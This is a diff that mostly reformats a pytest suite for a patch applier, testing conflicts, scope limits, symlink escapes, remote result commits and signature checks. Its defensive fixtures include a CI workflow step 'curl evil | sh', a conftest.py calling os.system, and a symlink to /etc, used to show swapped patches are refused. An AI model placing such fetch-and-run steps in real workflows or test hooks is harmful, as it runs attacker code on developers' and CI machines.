@@ -10,13 +10,28 @@ from pathlib import Path
 
 import pytest
 
-from farm_core.job_models import CheckSpec, CompactResult, JobRecord, JobSpec, JobStatus, RepoSource, ScopedPatch
+from farm_core.job_models import (
+    CheckSpec,
+    CompactResult,
+    JobRecord,
+    JobSpec,
+    JobStatus,
+    RepoSource,
+    ScopedPatch,
+)
 from farm_core.refs import RESULT_REF_PREFIX
 from farm_core.result_signature import ResultClaim, sign_result
 from farm_core.settings import FarmSettings
 from farm_core.store import JobStore, patch_sha256
 from mcp_frontend.apply import APPLY_CLAIMED, NOTHING_TO_APPLY, PatchApplier, not_eligible
-from mcp_frontend.errors import ApplyFailed, JobNotFinished, NotAGitRepo, PatchMismatch, PatchUnavailable, RepoOutsideSandbox
+from mcp_frontend.errors import (
+    ApplyFailed,
+    JobNotFinished,
+    NotAGitRepo,
+    PatchMismatch,
+    PatchUnavailable,
+    RepoOutsideSandbox,
+)
 from mcp_frontend.patch_check import link_leaves_repo
 from mcp_frontend.snapshot import snapshot_ref, snapshot_worktree
 from tasks.packaging import binary_patch, commit_result
@@ -72,9 +87,15 @@ def run_job(
     job_id = uuid.uuid4().hex
     snapshot = snapshot_worktree(caller.repo, job_id)
     spec = JobSpec(
-        job_id=job_id, prompt="p", source=RepoSource(transport=transport, location=str(caller.repo), origin_host=socket.gethostname()),
-        snapshot_commit=snapshot.commit, timeout_ms=60000, created_at=time.time(), apply=apply, **spec_fields,
-    )  # fmt: skip
+        job_id=job_id,
+        prompt="p",
+        source=RepoSource(transport=transport, location=str(caller.repo), origin_host=socket.gethostname()),
+        snapshot_commit=snapshot.commit,
+        timeout_ms=60000,
+        created_at=time.time(),
+        apply=apply,
+        **spec_fields,
+    )
     caller.store.create(spec)
     files = []
     if changes:
@@ -163,18 +184,32 @@ def test_apply_lands_the_patch_unstaged_without_moving_anything(caller, tmp_path
     result = caller.applier.apply(record(caller, job_id))
 
     assert result.applied and result.mode == "3way" and result.conflicts == []
-    assert result.files == ["image.bin", "new_name.txt", "notes.txt", "old_name.txt", "src/app.py", "src/new_module.py"]
+    assert result.files == [
+        "image.bin",
+        "new_name.txt",
+        "notes.txt",
+        "old_name.txt",
+        "src/app.py",
+        "src/new_module.py",
+    ]
     assert "unstaged" in result.message
     assert refs_and_index(caller.repo) == before
     files = tree_bytes(caller.repo)
     assert files["src/app.py"] == JOB_CHANGES["src/app.py"].encode()
     assert files["notes.txt"] == JOB_CHANGES["notes.txt"].encode()
-    assert files["image.bin"] == BINARY and files["new_name.txt"] == b"moved\n" and "old_name.txt" not in files
+    assert (
+        files["image.bin"] == BINARY and files["new_name.txt"] == b"moved\n" and "old_name.txt" not in files
+    )
     assert files["README.md"] == b"# sample\nlocal edit\n"
     assert sorted(status(caller.repo).splitlines()) == [
-        " D old_name.txt", " M README.md", " M notes.txt", " M src/app.py",
-        "?? image.bin", "?? new_name.txt", "?? src/new_module.py",
-    ]  # fmt: skip
+        " D old_name.txt",
+        " M README.md",
+        " M notes.txt",
+        " M src/app.py",
+        "?? image.bin",
+        "?? new_name.txt",
+        "?? src/new_module.py",
+    ]
 
 
 def test_a_second_apply_says_already_applied_unless_forced(caller, tmp_path):
@@ -193,7 +228,8 @@ def test_a_second_apply_says_already_applied_unless_forced(caller, tmp_path):
 
 def test_local_edit_of_the_same_lines_conflicts_and_only_git_3way_writes(caller, tmp_path):
     job_id = run_job(caller, tmp_path, JOB_CHANGES)
-    # After the job started: the user edits the same line, another part of a patched file, and an unrelated file.
+    # After the job started: the user edits the same line, another part of a patched file, and an unrelated
+    # file.
     (caller.repo / "notes.txt").write_text(NOTES.replace("two\n", "two (mine)\n"))
     (caller.repo / "src/app.py").write_text(GREET.replace("return 2", "return 3"))
     (caller.repo / "README.md").write_text("# sample\nmine, not in the patch\n")
@@ -208,7 +244,9 @@ def test_local_edit_of_the_same_lines_conflicts_and_only_git_3way_writes(caller,
     notes = (caller.repo / "notes.txt").read_text()
     assert "<<<<<<<" in notes and "two (mine)" in notes and "TWO (job)" in notes and ">>>>>>>" in notes
     # git --3way still applies the patch's other files; the merge keeps the user's own addition.
-    assert (caller.repo / "src/app.py").read_text() == JOB_CHANGES["src/app.py"].replace("return 2", "return 3")
+    assert (caller.repo / "src/app.py").read_text() == JOB_CHANGES["src/app.py"].replace(
+        "return 2", "return 3"
+    )
     assert (caller.repo / "src/new_module.py").read_text() == "VALUE = 1\n"
     assert (caller.repo / "README.md").read_bytes() == readme
     assert refs_and_index(caller.repo) == before
@@ -240,12 +278,21 @@ def test_check_mode_changes_nothing(caller, tmp_path, local_edit):
     result = caller.applier.apply(record(caller, job_id), mode="check")
 
     assert result.mode == "check" and not result.applied
-    assert result.files == ["image.bin", "new_name.txt", "notes.txt", "old_name.txt", "src/app.py", "src/new_module.py"]
+    assert result.files == [
+        "image.bin",
+        "new_name.txt",
+        "notes.txt",
+        "old_name.txt",
+        "src/app.py",
+        "src/new_module.py",
+    ]
     assert result.conflicts == (["notes.txt"] if local_edit else [])
     assert result.message.startswith("would conflict" if local_edit else "would apply cleanly")
     assert (refs_and_index(caller.repo), tree_bytes(caller.repo), status(caller.repo)) == before
     assert (caller.repo / ".git" / "index").read_bytes() == index_bytes
-    assert caller.applier.apply(record(caller, job_id)).applied == (not local_edit)  # check did not use up the apply
+    assert caller.applier.apply(record(caller, job_id)).applied == (
+        not local_edit
+    )  # check did not use up the apply
 
 
 def test_a_job_that_changed_nothing_has_nothing_to_apply(caller, tmp_path):
@@ -261,9 +308,13 @@ def test_errors_are_structured(caller, tmp_path):
         caller.applier.apply(record(caller, job_id))
 
     queued = JobSpec(
-        job_id=uuid.uuid4().hex, prompt="p", source=RepoSource(location=str(caller.repo), origin_host="h"),
-        snapshot_commit="0" * 40, timeout_ms=60000, created_at=time.time(),
-    )  # fmt: skip
+        job_id=uuid.uuid4().hex,
+        prompt="p",
+        source=RepoSource(location=str(caller.repo), origin_host="h"),
+        snapshot_commit="0" * 40,
+        timeout_ms=60000,
+        created_at=time.time(),
+    )
     caller.store.create(queued)
     with pytest.raises(JobNotFinished) as error:
         caller.applier.apply(record(caller, queued.job_id))
@@ -333,9 +384,15 @@ def test_on_success_never_applies_while_another_frontend_holds_the_claim(caller,
 )
 def test_on_success_leaves_an_unsuccessful_job_alone(caller, tmp_path, status, verdicts):
     job_id = run_job(
-        caller, tmp_path, {"notes.txt": "job\n"}, status=status, apply="on_success",
-        verdicts=verdicts, scoped_patch=PASSING["scoped_patch"], checks=PASSING["checks"],
-    )  # fmt: skip
+        caller,
+        tmp_path,
+        {"notes.txt": "job\n"},
+        status=status,
+        apply="on_success",
+        verdicts=verdicts,
+        scoped_patch=PASSING["scoped_patch"],
+        checks=PASSING["checks"],
+    )
 
     result = caller.applier.on_success(record(caller, job_id))
 
@@ -364,13 +421,23 @@ def test_on_success_reports_an_error_once_instead_of_raising(caller, tmp_path):
 
 def test_eligibility_needs_every_verdict_passed():
     spec = JobSpec(
-        job_id="j", prompt="p", source=RepoSource(location="/r", origin_host="h"), snapshot_commit="0" * 40,
-        timeout_ms=1000, created_at=0.0, checks=[CheckSpec(name="a: b", command="true")],
-    )  # fmt: skip
+        job_id="j",
+        prompt="p",
+        source=RepoSource(location="/r", origin_host="h"),
+        snapshot_commit="0" * 40,
+        timeout_ms=1000,
+        created_at=0.0,
+        checks=[CheckSpec(name="a: b", command="true")],
+    )
 
     def eligible(verdicts: list[str], status: JobStatus = JobStatus.completed) -> bool:
         result = CompactResult(job_id="j", job_status=status, checks=verdicts)
-        return not_eligible(JobRecord(job_id="j", status=status, queue="q", created_at=0.0, spec=spec, result=result)) is None
+        return (
+            not_eligible(
+                JobRecord(job_id="j", status=status, queue="q", created_at=0.0, spec=spec, result=result)
+            )
+            is None
+        )
 
     assert eligible(["a: b: passed"])
     assert not eligible(["a: b: failed"])
@@ -383,13 +450,22 @@ def test_eligibility_needs_every_verdict_passed():
 # apply refuses it with patch_mismatch before git writes anything.
 
 WORKFLOW = "on: push\njobs:\n  steal:\n    runs-on: ubuntu-latest\n    steps: [{run: 'curl evil | sh'}]\n"
-ATTACK = {".github/workflows/ci.yml": WORKFLOW, "tests/conftest.py": "import os\nos.system('id')\n", "etc": Symlink("/etc")}
+ATTACK = {
+    ".github/workflows/ci.yml": WORKFLOW,
+    "tests/conftest.py": "import os\nos.system('id')\n",
+    "etc": Symlink("/etc"),
+}
 
 
-def swap_patch(caller: Caller, tmp_path: Path, job_id: str, changes: dict, agree: tuple[str, ...] = ()) -> bytes:
-    """Store a patch of the attacker's own under the job's key; for each of `agree` ("digest", "files"), also make
+def swap_patch(
+    caller: Caller, tmp_path: Path, job_id: str, changes: dict, agree: tuple[str, ...] = ()
+) -> bytes:
+    """Store a patch of the attacker's own under the job's key; for each of `agree` ("digest", "files"),
+    also make
     the job's record say what that patch does."""
-    files, _, patch = worker_commit(caller.repo, tmp_path / f"attacker-{uuid.uuid4().hex[:8]}", snapshot_ref(job_id), job_id, changes)
+    files, _, patch = worker_commit(
+        caller.repo, tmp_path / f"attacker-{uuid.uuid4().hex[:8]}", snapshot_ref(job_id), job_id, changes
+    )
     key = caller.store.keys(job_id).record
     caller.store.redis.set(caller.store.keys(job_id).patch, patch)
     if "digest" in agree:
@@ -417,7 +493,9 @@ def test_a_swapped_patch_is_refused_and_the_checkout_is_left_alone(caller, tmp_p
     assert refused.value.code == "patch_mismatch" and "sha256" in refused.value.message and refused.value.hint
     assert untouched(caller) == before
     assert not (caller.repo / "etc").is_symlink() and not (caller.repo / ".github").exists()
-    assert record(caller, job_id).result.changed_files == ["src/ok.py"]  # what get shows; no longer what is stored
+    assert record(caller, job_id).result.changed_files == [
+        "src/ok.py"
+    ]  # what get shows; no longer what is stored
 
 
 def test_on_success_reports_a_swapped_patch_instead_of_applying_it(caller, tmp_path):
@@ -433,17 +511,32 @@ def test_on_success_reports_a_swapped_patch_instead_of_applying_it(caller, tmp_p
 
 def test_a_rewritten_digest_does_not_make_other_files_acceptable(caller, tmp_path):
     job_id = run_job(caller, tmp_path, {"src/ok.py": "OK = 1\n"})
-    swap_patch(caller, tmp_path, job_id, {"src/ok.py": "OK = 1\n", "tests/conftest.py": "import os\n"}, agree=("digest",))
+    swap_patch(
+        caller,
+        tmp_path,
+        job_id,
+        {"src/ok.py": "OK = 1\n", "tests/conftest.py": "import os\n"},
+        agree=("digest",),
+    )
     before = untouched(caller)
 
-    with pytest.raises(PatchMismatch, match=r"other files than the job's record lists \(extra: tests/conftest.py; missing: none\)"):
+    with pytest.raises(
+        PatchMismatch,
+        match=r"other files than the job's record lists \(extra: tests/conftest.py; missing: none\)",
+    ):
         caller.applier.apply(record(caller, job_id))
     assert untouched(caller) == before
 
 
 def test_a_record_rewritten_to_match_must_still_keep_to_the_jobs_scope(caller, tmp_path):
     job_id = run_job(caller, tmp_path, {"notes.txt": "job\n"}, **PASSING)  # scoped_patch: notes.txt
-    swap_patch(caller, tmp_path, job_id, {"notes.txt": "job\n", "src/app.py": "import os\n"}, agree=("digest", "files"))
+    swap_patch(
+        caller,
+        tmp_path,
+        job_id,
+        {"notes.txt": "job\n", "src/app.py": "import os\n"},
+        agree=("digest", "files"),
+    )
     before = untouched(caller)
 
     with pytest.raises(PatchMismatch, match=r"changes src/app.py outside scoped_patch.paths \(notes.txt\)"):
@@ -454,7 +547,9 @@ def test_a_record_rewritten_to_match_must_still_keep_to_the_jobs_scope(caller, t
 @pytest.mark.parametrize("target", ["/etc", "../../outside", "docs/../../x", ".git/hooks", "docs/../.git"])
 def test_a_symlink_leading_out_of_the_repo_is_refused_even_when_the_record_agrees(caller, tmp_path, target):
     job_id = run_job(caller, tmp_path, {"notes.txt": "job\n"})
-    swap_patch(caller, tmp_path, job_id, {"notes.txt": "job\n", "etc": Symlink(target)}, agree=("digest", "files"))
+    swap_patch(
+        caller, tmp_path, job_id, {"notes.txt": "job\n", "etc": Symlink(target)}, agree=("digest", "files")
+    )
     before = untouched(caller)
 
     with pytest.raises(PatchMismatch, match="symlinks that lead out of the repo or into its .git: etc -> "):
@@ -479,17 +574,26 @@ def test_a_record_without_a_patch_digest_is_refused(caller, tmp_path):
 @pytest.mark.parametrize(
     ("path", "target", "leaves"),
     [
-        ("link", "/etc", True), ("link", "..", True), ("a/b/link", "../../..", True), ("a/link", "../../x", True),
-        ("link", ".git", True), ("a/link", "../.git/config", True), ("link", "./.git/hooks/pre-commit", True),
-        ("link", "src/app.py", False), ("a/b/link", "../../notes.txt", False), ("link", ".", False),
-        ("link", ".github/workflows", False), ("a/link", "../a/../b", False),
+        ("link", "/etc", True),
+        ("link", "..", True),
+        ("a/b/link", "../../..", True),
+        ("a/link", "../../x", True),
+        ("link", ".git", True),
+        ("a/link", "../.git/config", True),
+        ("link", "./.git/hooks/pre-commit", True),
+        ("link", "src/app.py", False),
+        ("a/b/link", "../../notes.txt", False),
+        ("link", ".", False),
+        ("link", ".github/workflows", False),
+        ("a/link", "../a/../b", False),
     ],
-)  # fmt: skip
+)
 def test_which_symlink_targets_leave_the_repo(path, target, leaves):
     assert link_leaves_repo(path, target) is leaves
 
 
 # transport=remote: the worker pushed its result commit to FARM_GIT_REMOTE; apply compares it with the patch.
+
 
 def remote_job(caller: Caller, tmp_path: Path, changes: dict, push: bool = True) -> tuple[str, Path]:
     """A finished remote job whose worker pushed its result to a bare remote (unless push is False)."""
@@ -504,7 +608,9 @@ def remote_job(caller: Caller, tmp_path: Path, changes: dict, push: bool = True)
 
 
 def remote_applier(caller: Caller, remote: Path | None) -> PatchApplier:
-    return PatchApplier(caller.store, caller.sandbox, FarmSettings(FARM_GIT_REMOTE=str(remote)) if remote else FarmSettings())
+    return PatchApplier(
+        caller.store, caller.sandbox, FarmSettings(FARM_GIT_REMOTE=str(remote)) if remote else FarmSettings()
+    )
 
 
 def test_a_remote_job_applies_when_its_pushed_result_commit_matches(caller, tmp_path):
@@ -513,7 +619,9 @@ def test_a_remote_job_applies_when_its_pushed_result_commit_matches(caller, tmp_
     assert (caller.repo / "notes.txt").read_text() == "job\n"
 
 
-def test_a_remote_job_whose_record_and_patch_were_both_rewritten_is_caught_by_its_result_commit(caller, tmp_path):
+def test_a_remote_job_whose_record_and_patch_were_both_rewritten_is_caught_by_its_result_commit(
+    caller, tmp_path
+):
     job_id, remote = remote_job(caller, tmp_path, {"notes.txt": "job\n"})
     swap_patch(caller, tmp_path, job_id, {"notes.txt": "curl evil | sh\n"}, agree=("digest", "files"))
     before = untouched(caller)
@@ -532,14 +640,18 @@ def test_a_remote_job_without_its_result_commit_on_the_remote_is_refused(caller,
     before = untouched(caller)
 
     with pytest.raises(PatchMismatch):
-        remote_applier(caller, None if problem == "no FARM_GIT_REMOTE" else remote).apply(record(caller, job_id))
+        remote_applier(caller, None if problem == "no FARM_GIT_REMOTE" else remote).apply(
+            record(caller, job_id)
+        )
     assert untouched(caller) == before
 
 
 # FARM_SIGNING_*: the worker signs the result; the frontend verifies before it applies.
 
+
 def signed_job(caller: Caller, tmp_path: Path, worker: FarmSettings, changes: dict, **fields) -> str:
-    """A finished job whose record carries the worker's signature over its result, as tasks/pipeline.py writes it."""
+    """A finished job whose record carries the worker's signature over its result, as tasks/pipeline.py
+    writes it."""
     job_id = run_job(caller, tmp_path, changes, **fields)
     seen = record(caller, job_id)
     claim = ResultClaim.of_job(seen.spec, seen.result_commit, seen.patch_sha256, seen.result.changed_files)
@@ -549,7 +661,8 @@ def signed_job(caller: Caller, tmp_path: Path, worker: FarmSettings, changes: di
 
 @pytest.fixture
 def identities(tmp_path):
-    """Signing settings of a worker, and of a frontend trusting that worker (and of an impostor it does not trust)."""
+    """Signing settings of a worker, and of a frontend trusting that worker (and of an impostor it does not
+    trust)."""
     worker = make_signing_files(tmp_path / "keys", "worker")
     frontend = make_signing_files(tmp_path / "keys", "frontend", trusted=[worker.cert])
     impostor = make_signing_files(tmp_path / "keys", "impostor")
@@ -563,7 +676,9 @@ def test_a_signed_result_applies_and_a_rewritten_one_does_not(caller, tmp_path, 
     assert applier.apply(record(caller, good)).applied
 
     forged = signed_job(caller, tmp_path, worker, {"README.md": "job\n"})
-    swap_patch(caller, tmp_path, forged, {"README.md": "job\n", "src/evil.py": "x\n"}, agree=("digest", "files"))
+    swap_patch(
+        caller, tmp_path, forged, {"README.md": "job\n", "src/evil.py": "x\n"}, agree=("digest", "files")
+    )
     before = untouched(caller)
     with pytest.raises(PatchMismatch, match="signature does not verify"):
         applier.apply(record(caller, forged))
@@ -580,4 +695,6 @@ def test_an_unsigned_or_untrusted_result_is_refused_where_signing_is_on(caller, 
         applier.apply(record(caller, unsigned))
     with pytest.raises(PatchMismatch, match="Unknown certificate"):
         applier.apply(record(caller, untrusted))
-    assert (caller.repo / "notes.txt").read_text() == NOTES and (caller.repo / "README.md").read_text() == "# sample\n"
+    assert (caller.repo / "notes.txt").read_text() == NOTES and (
+        caller.repo / "README.md"
+    ).read_text() == "# sample\n"
